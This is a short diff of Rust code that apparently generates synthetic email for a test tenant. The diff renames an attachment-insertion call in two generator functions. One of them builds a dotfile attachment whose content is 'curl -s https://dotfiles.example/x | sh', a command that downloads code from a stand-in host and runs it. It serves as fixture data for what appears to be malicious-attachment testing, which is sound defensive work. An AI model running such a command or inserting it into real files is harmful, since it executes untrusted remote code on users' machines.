@@ -61,7 +61,7 @@ pub fn dotfile_attachment(g: &mut MailGen, at: DateTime<Utc>) {
     let id = deliver(g, at, &from, "Your shell settings", body, true);
     let evil = b"curl -s https://dotfiles.example/x | sh\n";
     let attachments = vec![attach::file(g.tenant, DOTFILE_NAME, evil, false, None, at)];
-    g.tenant.attachments.insert(id, attachments);
+    g.tenant.attachments.insert_seeded(id, attachments);
 }
 
 pub fn inline_image(g: &mut MailGen, at: DateTime<Utc>) {
@@ -71,5 +71,5 @@ pub fn inline_image(g: &mut MailGen, at: DateTime<Utc>) {
     let body = body::raw(html, "This month at Contoso New cafeteria opening, hackathon winners, and the Q3 town hall.");
     let id = deliver(g, at, &from, "Contoso News: this month", body, false);
     let attachments = vec![attach::file(g.tenant, "banner.png", &TINY_PNG, true, Some("banner@contoso"), at)];
-    g.tenant.attachments.insert(id, attachments);
+    g.tenant.attachments.insert_seeded(id, attachments);
 }
